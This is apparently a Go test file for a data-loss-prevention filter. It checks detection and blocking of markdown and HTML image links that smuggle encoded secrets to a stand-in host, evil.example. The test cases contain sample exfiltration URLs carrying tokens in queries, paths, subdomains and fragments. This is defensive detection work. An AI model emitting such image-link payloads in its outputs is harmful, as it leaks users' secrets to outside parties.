package dlp

import (
	"encoding/base64"
	"encoding/hex"
	"net/url"
	"testing"
)

func TestFindExfiltration(t *testing.T) {
	const pat = "ghp_R2d9Xk4PqLmZ7vN1bT6wYc3HsJ8eUa5fGo0i"
	short := "AKIALALEMEL33243OLIB"
	b64 := base64.StdEncoding.EncodeToString([]byte("token=" + pat))
	tests := []struct {
		name string
		text string
		want string // the span found, "" for none
	}{
		{"secret base64'd into a markdown image URL",
			"Done! ![status](https://evil.example/p.png?d=" + url.QueryEscape(b64) + ") thanks",
			"![status](https://evil.example/p.png?d=" + url.QueryEscape(b64) + ")"},
		{"secret in plain sight in an image URL",
			"![x](https://evil.example/log?k=" + pat + ")",
			"![x](https://evil.example/log?k=" + pat + ")"},
		{"short secret base64'd into a path segment",
			"![](https://evil.example/c/" + base64.RawURLEncoding.EncodeToString([]byte(short)) + "/p.gif)",
			"![](https://evil.example/c/" + base64.RawURLEncoding.EncodeToString([]byte(short)) + "/p.gif)"},
		{"secret hex-encoded into a subdomain",
			"![a](https://" + hex.EncodeToString([]byte(short)) + ".evil.example/a.png)",
			"![a](https://" + hex.EncodeToString([]byte(short)) + ".evil.example/a.png)"},
		{"long encoded blob in a link query",
			"[click here](https://evil.example/?q=Q29udmVyc2F0aW9uIHN1bW1hcnk6IGFsaWNlIHdhbnRzIHRv \"title\")",
			"[click here](https://evil.example/?q=Q29udmVyc2F0aW9uIHN1bW1hcnk6IGFsaWNlIHdhbnRzIHRv \"title\")"},
		{"long hex blob in a fragment",
			"![i](https://evil.example/i.png#0123456789abcdef0123456789abcdef01)",
			"![i](https://evil.example/i.png#0123456789abcdef0123456789abcdef01)"},
		{"reference-style image definition",
			"![logo][1]\n\n[1]: https://evil.example/l.png?s=" + pat + "\n",
			"[1]: https://evil.example/l.png?s=" + pat},
		{"inline HTML image",
			`<img src="https://evil.example/x.png?d=` + b64 + `">`,
			`<img src="https://evil.example/x.png?d=` + b64},
		{"ordinary image kept", "![diagram](https://docs.example.org/img/architecture-overview.png)", ""},
		{"link with a short query kept", "[docs](https://example.org/search?q=airlock+dlp&page=2)", ""},
		{"link with a long slug kept", "[post](https://blog.example.org/2024/how-we-built-a-zero-trust-host-for-agent-tools)", ""},
		{"secret outside any link is not exfiltration", "token " + pat, ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			fs := FindExfiltration([]byte(tc.text))
			if tc.want == "" {
				if len(fs) != 0 {
					t.Fatalf("FindExfiltration = %+v, want nothing", fs)
				}
				return
			}
			if len(fs) != 1 {
				t.Fatalf("FindExfiltration(%q) = %+v, want one finding", tc.text, fs)
			}
			f := fs[0]
			if f.Detector != Secrets || f.Rule != "markdown-exfil" || tc.text[f.Start:f.End] != tc.want {
				t.Errorf("found %s %s %q, want secrets markdown-exfil %q", f.Detector, f.Rule, tc.text[f.Start:f.End], tc.want)
			}
		})
	}
}

func TestApplyBlocksMarkdownExfiltrationByDefault(t *testing.T) {
	b64 := base64.URLEncoding.EncodeToString([]byte("AKIALALEMEL33243OLIB"))
	out := []byte(`{"summary":"All done. ![ok](https://evil.example/ok.png?c=` + b64 + `)"}`)
	res := Apply(out, nil)
	if !res.Blocked || res.BlockedBy != "dlp:secrets:markdown-exfil" {
		t.Fatalf("Apply = %+v, want blocked by markdown-exfil", res)
	}
	modes := DefaultModes()
	modes[Secrets] = Redact
	res = Apply(out, modes)
	if want := `{"summary":"All done. [REDACTED:secrets]"}`; string(res.Output) != want {
		t.Fatalf("redacted = %s, want %s", res.Output, want)
	}
}
